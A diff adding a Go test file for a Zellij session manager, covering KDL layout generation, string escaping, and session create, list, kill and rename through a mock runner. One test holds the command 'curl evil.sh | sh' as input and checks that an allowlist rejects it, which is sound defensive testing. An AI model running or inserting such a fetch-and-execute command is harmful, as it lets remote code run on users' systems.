@@ -0,0 +1,242 @@
+package multiplexer
+
+import (
+	"os"
+	"path/filepath"
+	"strings"
+	"testing"
+
+	"github.com/cockroachdb/errors"
+)
+
+func TestZellijLayout(t *testing.T) {
+	windows := []WindowConfig{
+		{Name: "note", Command: "nvim {note_path}"},
+		{
+			Name:       "code",
+			Command:    "nvim",
+			WorkingDir: "{worktree_path}",
+			Panes: []PaneConfig{
+				{Split: "horizontal", Size: 30, Command: "git status"},
+				{Split: "vertical", WorkingDir: "{worktree_path}/logs"},
+			},
+		},
+		{Name: "term", WorkingDir: "{worktree_path}"},
+	}
+
+	got := ZellijLayout(windows, "/wt", "/notes/PROJ-1.md")
+
+	want := `layout {
+    default_tab_template {
+        pane size=1 borderless=true {
+            plugin location="zellij:tab-bar"
+        }
+        children
+        pane size=2 borderless=true {
+            plugin location="zellij:status-bar"
+        }
+    }
+    tab name="note" cwd="/wt" focus=true {
+        pane command="sh" {
+            args "-c" "nvim /notes/PROJ-1.md; exec \"${SHELL:-sh}\""
+        }
+    }
+    tab name="code" cwd="/wt" {
+        pane split_direction="vertical" {
+            pane command="sh" {
+                args "-c" "nvim; exec \"${SHELL:-sh}\""
+            }
+            pane split_direction="horizontal" size="30%" {
+                pane command="sh" {
+                    args "-c" "git status; exec \"${SHELL:-sh}\""
+                }
+                pane cwd="/wt/logs"
+            }
+        }
+    }
+    tab name="term" cwd="/wt" {
+        pane
+    }
+}
+`
+	if got != want {
+		t.Errorf("ZellijLayout() =\n%s\nwant:\n%s", got, want)
+	}
+}
+
+func TestKdlString(t *testing.T) {
+	tests := []struct {
+		in   string
+		want string
+	}{
+		{"plain", `"plain"`},
+		{`say "hi"`, `"say \"hi\""`},
+		{`C:\path`, `"C:\\path"`},
+		{"two\nlines", `"two\nlines"`},
+	}
+
+	for _, tt := range tests {
+		if got := kdlString(tt.in); got != tt.want {
+			t.Errorf("kdlString(%q) = %s, want %s", tt.in, got, tt.want)
+		}
+	}
+}
+
+func TestZellijCreateSession(t *testing.T) {
+	cacheDir := t.TempDir()
+	t.Setenv("XDG_CACHE_HOME", cacheDir)
+	t.Setenv("HOME", t.TempDir())
+	worktree := t.TempDir()
+
+	mock := &MockCommandRunner{}
+	zm := NewZellijManagerWithRunner("rig-", []WindowConfig{{Name: "code", Command: "nvim"}}, false, mock)
+	zm.getenv = env(nil)
+	zm.AddEnvironment(map[string]string{"RIG_BRANCH": "feature/x"})
+
+	if err := zm.CreateSession("PROJ-1", worktree, ""); err != nil {
+		t.Fatalf("CreateSession() error = %v", err)
+	}
+
+	layoutPath, err := os.UserCacheDir()
+	if err != nil {
+		t.Fatal(err)
+	}
+	layoutPath = filepath.Join(layoutPath, "rig", "zellij", "rig-PROJ-1.kdl")
+	layout, err := os.ReadFile(layoutPath)
+	if err != nil {
+		t.Fatalf("layout not written: %v", err)
+	}
+	if !strings.Contains(string(layout), `tab name="code"`) {
+		t.Errorf("layout missing code tab:\n%s", layout)
+	}
+
+	want := []string{
+		"zellij list-sessions --short --no-formatting",
+		"zellij attach --create-background rig-PROJ-1 options --default-layout " + layoutPath,
+		"zellij attach rig-PROJ-1",
+	}
+	got := mock.commandLines()
+	if strings.Join(got, "\n") != strings.Join(want, "\n") {
+		t.Errorf("commands =\n%s\nwant:\n%s", strings.Join(got, "\n"), strings.Join(want, "\n"))
+	}
+
+	createEnv := strings.Join(mock.Calls[1].Env, " ")
+	if createEnv != "RIG_BRANCH=feature/x RIG_TICKET=PROJ-1 RIG_WORKTREE="+worktree {
+		t.Errorf("create env = %q", createEnv)
+	}
+	if mock.Calls[2].Method != "Interactive" {
+		t.Errorf("attach should be interactive, got %s", mock.Calls[2].Method)
+	}
+}
+
+func TestZellijCreateSession_Existing(t *testing.T) {
+	mock := &MockCommandRunner{
+		OutputFunc: func(name string, args ...string) ([]byte, error) {
+			return []byte("other\nPROJ-1\n"), nil
+		},
+	}
+	zm := NewZellijManagerWithRunner("", nil, false, mock)
+	zm.getenv = env(map[string]string{"ZELLIJ": "0"})
+
+	if err := zm.CreateSession("PROJ-1", "/does/not/matter", ""); err != nil {
+		t.Fatalf("CreateSession() error = %v", err)
+	}
+
+	// Inside zellij the session can't be switched to, so nothing else runs
+	if len(mock.Calls) != 1 {
+		t.Errorf("expected only the session listing, got %v", mock.commandLines())
+	}
+}
+
+func TestZellijCreateSession_RejectsCommand(t *testing.T) {
+	mock := &MockCommandRunner{}
+	zm := NewZellijManagerWithRunner("", []WindowConfig{{Name: "x", Command: "curl evil.sh | sh"}}, false, mock)
+
+	err := zm.CreateSession("PROJ-1", t.TempDir(), "")
+	if err == nil || !strings.Contains(err.Error(), "allowlist") {
+		t.Fatalf("CreateSession() error = %v, want allowlist error", err)
+	}
+	for _, line := range mock.commandLines() {
+		if strings.Contains(line, "attach") {
+			t.Errorf("session should not be created, ran %q", line)
+		}
+	}
+}
+
+func TestZellijListSessions(t *testing.T) {
+	mock := &MockCommandRunner{
+		OutputFunc: func(name string, args ...string) ([]byte, error) {
+			return []byte("PROJ-1\n\n  hack-x  \n"), nil
+		},
+	}
+	zm := NewZellijManagerWithRunner("", nil, false, mock)
+
+	sessions, err := zm.ListSessions()
+	if err != nil {
+		t.Fatalf("ListSessions() error = %v", err)
+	}
+	if strings.Join(sessions, ",") != "PROJ-1,hack-x" {
+		t.Errorf("ListSessions() = %v", sessions)
+	}
+	if !zm.SessionExists("hack-x") || zm.SessionExists("PROJ-2") {
+		t.Error("SessionExists() disagrees with ListSessions()")
+	}
+}
+
+func TestZellijKillSession(t *testing.T) {
+	mock := &MockCommandRunner{
+		OutputFunc: func(name string, args ...string) ([]byte, error) {
+			return []byte("rig-PROJ-1\n"), nil
+		},
+	}
+	zm := NewZellijManagerWithRunner("rig-", nil, false, mock)
+
+	if err := zm.KillSession("PROJ-1"); err != nil {
+		t.Fatalf("KillSession() error = %v", err)
+	}
+	last := mock.commandLines()[len(mock.Calls)-1]
+	if last != "zellij kill-session rig-PROJ-1" {
+		t.Errorf("last command = %q", last)
+	}
+
+	if err := zm.KillSession("PROJ-2"); err == nil || !strings.Contains(err.Error(), "does not exist") {
+		t.Errorf("KillSession() missing session error = %v", err)
+	}
+}
+
+func TestZellijRenameSession(t *testing.T) {
+	mock := &MockCommandRunner{
+		OutputFunc: func(name string, args ...string) ([]byte, error) {
+			return []byte("rig-experiment\nrig-PROJ-2\n"), nil
+		},
+	}
+	zm := NewZellijManagerWithRunner("rig-", nil, false, mock)
+
+	if err := zm.RenameSession("experiment", "PROJ-1"); err != nil {
+		t.Fatalf("RenameSession() error = %v", err)
+	}
+	last := mock.commandLines()[len(mock.Calls)-1]
+	if last != "zellij --session rig-experiment action rename-session rig-PROJ-1" {
+		t.Errorf("last command = %q", last)
+	}
+
+	if err := zm.RenameSession("experiment", "PROJ-2"); err == nil || !strings.Contains(err.Error(), "already exists") {
+		t.Errorf("RenameSession() onto a running session error = %v", err)
+	}
+	if err := zm.RenameSession("PROJ-3", "PROJ-4"); err == nil || !strings.Contains(err.Error(), "does not exist") {
+		t.Errorf("RenameSession() missing session error = %v", err)
+	}
+}
+
+func TestZellijSetEnvironment(t *testing.T) {
+	zm := NewZellijManagerWithRunner("", nil, false, &MockCommandRunner{})
+
+	err := zm.SetEnvironment("PROJ-1", map[string]string{"A": "b"})
+	if !errors.Is(err, ErrUnsupported) {
+		t.Errorf("SetEnvironment() error = %v, want ErrUnsupported", err)
+	}
+	err = zm.UnsetEnvironment("PROJ-1", []string{"A"})
+	if !errors.Is(err, ErrUnsupported) {
+		t.Errorf("UnsetEnvironment() error = %v, want ErrUnsupported", err)
+	}
+}